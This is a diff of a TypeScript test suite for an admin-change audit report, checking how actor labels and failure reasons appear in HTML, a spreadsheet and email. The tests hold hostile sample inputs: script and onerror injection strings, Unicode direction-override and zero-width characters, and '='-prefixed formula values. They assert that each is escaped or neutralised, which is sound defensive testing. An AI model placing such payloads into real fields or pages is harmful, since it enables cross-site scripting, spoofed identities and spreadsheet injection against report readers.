+      const row = elementHtml(html, "tr", `change-${index + 1}`);
+      const a = found.attribution;
+      expect(row, c.name).toContain(`<span class="actor-label">${rendered(a.label)}</span>`);
+      expect(row.includes('<span class="actor-reason">'), c.name).toBe(a.reason !== null);
+      if (a.reason !== null) {
+        expect(row, c.name).toContain(`<span class="actor-reason">${rendered(a.reason)}</span>`);
+      }
+      expect(
+        row.includes(`<span class="actor-events">Event ${a.event_ids[0]}</span>`),
+        c.name,
+      ).toBe(c.events === 1);
       expect(row.includes('<span class="badge elevated">Elevated</span>'), c.name).toBe(c.elevated);
       expect(row, c.name).not.toMatch(/title="/);
     }
   });
 
   it("workbook: Actor, Attribution, Event time, Event ids and Reason on every change", () => {
-    const rows = rowsOf(workbook, "Changes");
-    expect(rows).toHaveLength(model.changes.length);
-    for (const c of CASES) {
-      const { change: found, index } = change(model, c);
+    const rows = rowsOf(coveredBook, "Changes");
+    expect(rows).toHaveLength(covered.changes.length);
+    for (const c of casesOf("covered")) {
+      const { change: found, index } = change(covered, c);
+      const a = found.attribution;
       expect(rows[index], c.name).toMatchObject({
         kind: found.kind,
-        actor: found.attribution.label,
+        actor: a.label.startsWith("=") ? `'${a.label}` : revealInvisible(a.label),
         attribution: c.status,
-        made_by: c.madeBy,
-        event_time: null,
-        event_ids: null,
-        reason: found.attribution.reason,
+        event_time: a.event_time === null ? null : new Date(a.event_time),
+        event_ids: a.event_ids.length === 0 ? null : a.event_ids.join(", "),
+        reason: a.reason,
         elevated: c.elevated,
       });
     }
-    expect(rowsOf(workbook, "Changes by actor")).toEqual(
-      model.changes_by_actor.map((a) => ({
-        made_by: a.made_by,
+    expect(rowsOf(coveredBook, "Changes by actor")).toEqual(
+      covered.changes_by_actor.map((a) => ({
+        made_by: a.made_by.startsWith("=") ? `'${revealInvisible(a.made_by)}` : a.made_by,
         attribution: a.status,
         changes: a.changes,
         elevated_changes: a.elevated,
       })),
     );
-    const summary = rowsOf(workbook, "Summary").filter((r) => r.section === "Attribution");
+    const summary = rowsOf(coveredBook, "Summary").filter((r) => r.section === "Attribution");
     const item = (name: string) => summary.find((r) => r.item === name);
     expect(item("Audit log")).toMatchObject({
-      value: "does not cover the interval",
-      detail: expect.stringMatching(/^The audit log held covers none of the interval /),
+      value: "covers the interval",
+      detail: covered.audit_log_note,
     });
-    expect(item("Unattributed elevated changes")?.value).toBe(UNACCOUNTED);
-    expect(item("Unattributed changes")?.value).toBe(model.attribution_totals.unattributed);
-    expect(item("Failed sync 2")?.detail).toMatch(/^the audit log could not be read: 404 /);
-    expect(item("Failed sync 2")?.value).toBeInstanceOf(Date);
+    expect(item("Unattributed elevated changes")?.value).toBe(unaccounted("covered"));
+    expect(item("Attributed changes")?.value).toBe(covered.attribution_totals.attributed);
+    expect(item("Interval from")?.value).toEqual(new Date(covered.audit_log?.window.from ?? "?"));
   });
 
   it("email over SMTP: the actor of every listed change, the unattributed count, the coverage", async () => {
     const smtp = await startSmtp();
     try {
-      const result = await sendChangeReport(changeReportEmail(model, []), {
+      const result = await sendChangeReport(changeReportEmail(covered, []), {
         smtp: { host: "127.0.0.1", port: smtp.port, security: "none", timeoutMs: 5000 },
         from: "audit@corp.example",
         to: ["security@corp.example"],
@@ -566,26 +703,28 @@ describe("who made each change, in the reports and the change email", () => {
       if (!mail) throw new Error("nothing received");
       const text = mail.text ?? "";
       const body = typeof mail.html === "string" ? mail.html : "";
-      const t = model.attribution_totals;
-      const line = `${t.unattributed} changes are unattributed, ${UNACCOUNTED} of them elevated`;
+      const t = covered.attribution_totals;
+      const n = unaccounted("covered");
+      const line = `${t.unattributed} changes are unattributed, ${n} of them elevated`;
       expect(text).toContain(`Who made them: ${line}.`);
       expect(body).toContain(`Who made them: ${line}.`);
-      expect(text).toContain(`!! ${UNACCOUNTED} elevated changes nobody can account for`);
-      expect(body).toContain(`${UNACCOUNTED} elevated changes nobody can account for`);
-      const note = model.audit_log_note ?? "?";
-      expect(text.replace(/\s+/g, " ")).toContain(note.replace(/\s+/g, " "));
-      expect(body).toContain(rendered(note));
+      expect(text).toContain(
+        `!! ${n} elevated change nobody can account for: no audit-log event names who made it.`,
+      );
+      expect(body).toContain(`${n} elevated change nobody can account for`);
+      expect(text).toContain(covered.audit_log_note ?? "?");
+      expect(body).toContain(rendered(covered.audit_log_note ?? "?"));
       // Every change is listed with its actor; the unaccounted elevated ones first.
       const listed = [...text.matchAll(/^- \[(\w+)\]( \[elevated\])? .*\n {4}actor: (.*)$/gm)];
-      expect(listed).toHaveLength(model.changes.length);
-      expect(listed.slice(0, UNACCOUNTED).map((m) => [m[2], m[3]])).toEqual(
-        Array.from({ length: UNACCOUNTED }, () => [" [elevated]", "unattributed"]),
+      expect(listed).toHaveLength(covered.changes.length);
+      expect(listed.slice(0, n).map((m) => [m[2], m[3]])).toEqual(
+        Array.from({ length: n }, () => [" [elevated]", "unattributed"]),
       );
-      for (const c of CASES) {
-        const { change: found } = change(model, c);
-        expect(text, c.name).toContain(`    actor: ${found.attribution.label}\n`);
+      for (const c of casesOf("covered")) {
+        const a = change(covered, c).change.attribution;
+        expect(text, c.name).toContain(`    actor: ${revealInvisible(a.label)}\n`);
         expect(body, c.name).toContain(
-          `Actor: ${rendered(found.attribution.label)} &middot; ${rendered(found.attribution.reason ?? "?")}`,
+          `Actor: ${rendered(a.label)}${a.reason === null ? "</span>" : ` &middot; ${rendered(a.reason)}`}`,
         );
       }
     } finally {
@@ -593,109 +732,88 @@ describe("who made each change, in the reports and the change email", () => {
     }
   });
 
-  it("an event in the audit log attributes the change and takes it off the unaccounted list", () => {
-    const { change: found } = change(hostile, ownerGrant);
+  it("email: a gap in the audit log is said with its reason", async () => {
+    const out = await renderChangeReportEmail(changeReportEmail(gap, []), {
+      minSeverity: "high",
+    });
+    expect(out.text).toContain(`${gap.audit_log_note}\n`);
+    expect(out.text).toContain("the admin key may not read the audit log (HTTP 403)");
+    expect(out.text).toContain(`!! ${unaccounted("gap")} elevated change nobody can account for`);
+  });
+
+  it("hostile actor: escaped and revealed in HTML, neutralised in the workbook, literal in email", async () => {
+    const c = caseNamed("an elevated role granted by a person with a hostile");
+    const { change: found, index } = change(covered, c);
     const a = found.attribution;
-    expect(a.status).toBe("attributed");
-    expect(a.label).toBe(
-      `by ${HOSTILE_EMAIL} (${HOSTILE_USER_ID}) from ${HOSTILE_IP} at ${a.event_time}`,
-    );
-    expect(a.made_by).toBe(`${HOSTILE_EMAIL} (${HOSTILE_USER_ID})`);
-    expect(a.event_ids).toEqual(["audit_log-hostile-1"]);
-    expect(a.reason).toBeNull();
-    expect(hostile.attribution_totals.unattributed_elevated).toBe(UNACCOUNTED - 1);
-    expect(hostile.changes_by_actor.map((x) => x.status)).toEqual([
-      "unattributed",
-      "attributed",
-      "scim",
-      "not_logged",
-    ]);
-    // The rest of the interval is a gap, and the latest failed sync's reason is the one given.
-    expect(hostile.audit_log?.covered).toBe(false);
-    const { change: other } = change(hostile, CASES[4] as Case);
-    expect(other.attribution.reason).toContain(`(failed sync: ${HOSTILE_REASON})`);
-  });
-
-  it("hostile actor and reason: escaped and revealed in HTML, neutralised in the workbook", () => {
-    const { change: found, index } = change(hostile, ownerGrant);
-    const row = elementHtml(hostileHtml, "tr", `change-${index + 1}`);
-    expect(row).toContain(`<span class="actor-label">${rendered(found.attribution.label)}</span>`);
+    const row = elementHtml(coveredHtml, "tr", `change-${index + 1}`);
+    expect(row).toContain(`<span class="actor-label">${rendered(a.label)}</span>`);
     expect(row).toContain("[U+202E]exe@evil.example");
-    expect(row).toContain('<span class="actor-events">Event audit_log-hostile-1</span>');
-    expect(hostileHtml).toContain(rendered(HOSTILE_REASON));
-    expect(hostileHtml).toContain("[U+202E]daer[U+202C]");
-    for (const raw of [
-      "<script>alert('actor')",
-      "<script>alert('reason')",
-      "<img src=x onerror",
-      "<b>bold</b>",
-      "\u202E",
-      "\u200B",
-    ]) {
-      expect(hostileHtml).not.toContain(raw);
+    expect(row).toContain("203.0.113.7[U+200B]&lt;b&gt;bold&lt;/b&gt;");
+    for (const raw of ["<script>alert('actor')", "<b>bold</b>", "\u202E", "\u200B"]) {
+      expect(coveredHtml).not.toContain(raw);
     }
-    expect(hostileHtml.match(/<script\b/g)).toHaveLength(2);
+    expect(coveredHtml.match(/<script\b/g)).toHaveLength(2);
 
-    const changes = rowsOf(hostileWorkbook, "Changes");
     // made_by starts with "=": a leading ' keeps it text; the label starts with "by".
-    expect(changes[index]).toMatchObject({
-      actor: revealInvisible(found.attribution.label),
-      attribution: "attributed",
-      made_by: `'${revealInvisible(found.attribution.made_by)}`,
-      event_ids: "audit_log-hostile-1",
-      event_time: new Date(found.attribution.event_time ?? "?"),
-      reason: null,
+    const cell = `'${revealInvisible(a.made_by)}`;
+    expect(rowsOf(coveredBook, "Changes")[index]).toMatchObject({
+      actor: revealInvisible(a.label),
+      made_by: cell,
     });
-    // The grant, and the access it gave the group's member (the same event explains both).
-    expect(rowsOf(hostileWorkbook, "Changes by actor")).toContainEqual({
-      made_by: `'${revealInvisible(found.attribution.made_by)}`,
-      attribution: "attributed",
-      changes: hostile.changes.filter((c) => c.attribution.made_by === found.attribution.made_by)
-        .length,
-      elevated_changes: 1,
-    });
-    const failed = rowsOf(hostileWorkbook, "Summary").find((r) => r.item === "Failed sync 4");
-    expect(failed?.detail).toBe(`'${revealInvisible(HOSTILE_REASON)}`);
-    // No formula anywhere in the two sheets.
-    for (const name of ["Changes", "Changes by actor", "Summary"]) {
-      hostileWorkbook.getWorksheet(name)?.eachRow((r) => {
-        r.eachCell((cell) => {
-          expect(cell.formula, name).toBeUndefined();
-        });
-      });
-    }
-  });
+    expect(rowsOf(coveredBook, "Changes by actor").map((r) => r.made_by)).toContain(cell);
 
-  it("hostile actor and reason: escaped in the email's HTML, revealed and literal in its text", async () => {
-    const out = await renderChangeReportEmail(changeReportEmail(hostile, []), {
+    const out = await renderChangeReportEmail(changeReportEmail(covered, []), {
       minSeverity: "high",
       maxChangesInBody: 1000,
     });
-    const { change: found } = change(hostile, ownerGrant);
-    const label = revealInvisible(found.attribution.label);
-    expect(out.text).toContain(`    actor: ${label}\n`);
-    expect(out.text).toContain(revealInvisible(HOSTILE_REASON));
-    expect(out.html).toContain(`Actor: ${rendered(found.attribution.label)}`);
+    expect(out.text).toContain(`    actor: ${revealInvisible(a.label)}\n`);
+    expect(out.html).toContain(`Actor: ${rendered(a.label)}`);
     for (const body of [out.html, out.text]) {
       expect(body).not.toContain("\u202E");
       expect(body).not.toContain("\u200B");
     }
-    for (const raw of ["<script>alert(", "<img src=x", "<b>bold</b>"]) {
-      expect(out.html).not.toContain(raw);
+    for (const raw of ["<script>alert(", "<b>bold</b>"]) expect(out.html).not.toContain(raw);
+  });
+
+  it("hostile failure reason: escaped and revealed in HTML, neutralised in the workbook", () => {
+    const c = caseNamed("an elevated role granted while the admin key may not read");
+    const { change: found, index } = change(hostile, c);
+    // The latest failed sync's reason is the one each unattributed change in the gap gives.
+    expect(found.attribution.reason).toContain(`(failed sync: ${HOSTILE_REASON})`);
+    const row = elementHtml(hostileHtml, "tr", `change-${index + 1}`);
+    expect(row).toContain(rendered(HOSTILE_REASON));
+    expect(elementHtml(hostileHtml, "div", "audit-log-coverage")).toContain(
+      rendered(HOSTILE_REASON),
+    );
+    expect(hostileHtml).toContain("[U+202E]daer[U+202C]");
+    for (const raw of ["<script>alert('reason')", "\u202E"]) {
+      expect(hostileHtml).not.toContain(raw);
+    }
+    const failed = rowsOf(hostileBook, "Summary").find((r) => r.item === "Failed sync 4");
+    expect(failed?.detail).toBe(`'${revealInvisible(HOSTILE_REASON)}`);
+    // No formula anywhere in the sheets that carry attribution.
+    for (const book of [coveredBook, hostileBook]) {
+      for (const name of ["Changes", "Changes by actor", "Summary"]) {
+        book.getWorksheet(name)?.eachRow((r) => {
+          r.eachCell((cell) => {
+            expect(cell.formula, name).toBeUndefined();
+          });
+        });
+      }
     }
   });
 
   it("is deterministic: the same database gives the same HTML, workbook and email", async () => {
-    const again = await modelOf(org.dbPath);
-    expect(renderHtml(again)).toBe(html);
+    const [, second, third] = org.snapshots;
+    expect(renderHtml(await modelOf(org.dbPath, second))).toBe(coveredHtml);
     const one = join(org.dir, "one.xlsx");
     const two = join(org.dir, "two.xlsx");
-    await workbookOf(hostilePath, one);
-    await workbookOf(hostilePath, two);
+    await workbookOf(hostilePath, third, one);
+    await workbookOf(hostilePath, third, two);
     expect(readFileSync(one).equals(readFileSync(two))).toBe(true);
     const email = (m: ReportModel) =>
       renderChangeReportEmail(changeReportEmail(m, []), { minSeverity: "high" });
-    expect(await email(await modelOf(hostilePath))).toEqual(await email(hostile));
+    expect(await email(await modelOf(org.dbPath, second))).toEqual(await email(covered));
   });
 
   const inBrowser = it.skipIf(!hasChromium);
@@ -717,26 +835,24 @@ describe("who made each change, in the reports and the change email", () => {
   }
 
   inBrowser("Chromium: the actor and its reason read as text, on screen and in print", async () => {
-    const path = join(org.dir, "hostile.html");
-    writeFileSync(path, hostileHtml);
+    const path = join(org.dir, "covered.html");
+    writeFileSync(path, coveredHtml);
     const { page, problems } = await open(path);
-    const { change: found, index } = change(hostile, ownerGrant);
-    const actor = page.locator(`#change-${index + 1} td.actor`);
-    await expect(actor.locator(".actor-label").textContent()).resolves.toBe(
-      revealInvisible(found.attribution.label),
-    );
-    const { change: other, index: otherIndex } = change(hostile, CASES[4] as Case);
-    const reason = page.locator(`#change-${otherIndex + 1} .actor-reason`);
-    await expect(reason.textContent()).resolves.toBe(
-      revealInvisible(other.attribution.reason ?? "?"),
-    );
+    const hostileCase = caseNamed("an elevated role granted by a person with a hostile");
+    const { change: found, index } = change(covered, hostileCase);
+    await expect(
+      page.locator(`#change-${index + 1} td.actor .actor-label`).textContent(),
+    ).resolves.toBe(revealInvisible(found.attribution.label));
+    const offLog = change(covered, caseNamed("an elevated role granted to a user while"));
+    const reason = page.locator(`#change-${offLog.index + 1} .actor-reason`);
+    await expect(reason.textContent()).resolves.toBe(offLog.change.attribution.reason);
     expect(await reason.isVisible()).toBe(true);
     await page.emulateMedia({ media: "print" });
     expect(await reason.isVisible()).toBe(true);
     expect(await page.locator("#audit-log-coverage").isVisible()).toBe(true);
     expect(await page.locator("#unaccounted").isVisible()).toBe(true);
     await expect(page.locator("#unaccounted h3").textContent()).resolves.toBe(
-      `Elevated changes nobody can account for (${UNACCOUNTED - 1})`,
+      `Elevated changes nobody can account for (${unaccounted("covered")})`,
     );
     const injected = await page.evaluate(`({
       handlers: Array.from(document.querySelectorAll("*")).filter((el) =>
@@ -754,7 +870,7 @@ describe("who made each change, in the reports and the change email", () => {
     expect(hash).toMatch(/^#change-\d+$/);
     expect(await page.locator(String(hash)).isVisible()).toBe(true);
     expect(problems).toEqual([]);
-    await page.pdf({ path: join(org.dir, "hostile.pdf") });
+    await page.pdf({ path: join(org.dir, "covered.pdf") });
     await page.close();
   });
 });
